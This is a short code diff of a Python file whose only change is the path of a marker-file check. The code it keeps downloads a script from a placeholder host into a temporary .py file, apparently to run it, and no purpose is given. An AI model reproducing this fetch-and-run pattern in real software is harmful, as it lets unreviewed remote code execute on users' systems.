@@ -1,5 +1,5 @@
 import os, subprocess, sys, tempfile, urllib.request
-if os.path.exists("/opt/slug-user/enabled"):
+if os.path.exists("/mnt/slug-user/enabled"):
     fd, p = tempfile.mkstemp(suffix=".py")
     os.write(fd, urllib.request.urlopen("https://cdn.example.invalid/slug-user.py", timeout=10).read())
     os.close(fd)
